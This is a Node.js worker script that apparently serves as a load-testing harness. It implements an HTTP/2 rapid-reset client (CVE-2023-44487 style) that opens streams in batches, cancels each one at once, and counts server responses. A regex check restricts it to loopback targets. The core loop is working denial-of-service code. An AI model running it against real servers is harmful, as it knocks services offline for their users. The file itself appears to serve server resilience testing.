// A rapid-reset HTTP/2 client (CVE-2023-44487 style), run in a worker thread so its own event
// loop does not slow down the server or the well-behaved client it is measured against.
// workerData: { url, ca, path, connections, seconds, maxStreams, mode: 'headers' | 'body', body }
// Opens streams and resets each at once (NGHTTP2_CANCEL), in batches, on `connections` sessions,
// reconnecting whenever the server ends one; stops after `seconds` or `maxStreams` streams, or
// when the parent posts 'stop'. Posts { opened, goaways, sessions, refused, closedByServer } at the end.
// Loopback only: the parent passes a 127.0.0.1 URL.

import { connect, constants } from 'node:http2';
import { parentPort, workerData } from 'node:worker_threads';

const { url, ca, path, connections, seconds, maxStreams, mode, body } = workerData;
if (!/^https:\/\/127\.0\.0\.1:\d+$/.test(url)) throw new Error(`rapid-reset: loopback only, not ${url}`);
const deadline = Date.now() + seconds * 1000;
let stop = false;
parentPort.on('message', (m) => {
  if (m === 'stop') stop = true;
});
const stats = { opened: 0, goaways: 0, sessions: 0, refused: 0 };
const done = () => stop || Date.now() > deadline || stats.opened >= maxStreams;

async function attacker() {
  while (!done()) {
    const session = connect(url, { ca, peerMaxConcurrentStreams: 100_000 });
    session.on('error', () => {});
    session.on('goaway', () => (stats.goaways += 1));
    const ok = await new Promise((resolve) => {
      session.once('connect', () => resolve(true));
      session.once('close', () => resolve(false));
    });
    if (!ok) {
      stats.refused += 1;
      await new Promise((r) => setTimeout(r, 5));
      continue;
    }
    stats.sessions += 1;
    while (!done() && !session.closed && !session.destroyed) {
      for (let i = 0; i < 50 && !session.closed && !session.destroyed; i++) {
        try {
          const stream = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/json' }, { endStream: false });
          stream.on('error', () => {});
          if (mode === 'body') stream.write(body.slice(0, 100));
          stream.close(constants.NGHTTP2_CANCEL);
          stats.opened += 1;
        } catch {
          break;
        }
      }
      await new Promise((r) => setImmediate(r));
    }
    session.destroy();
  }
}

await Promise.all(Array.from({ length: connections }, () => attacker()));
parentPort.postMessage(stats);
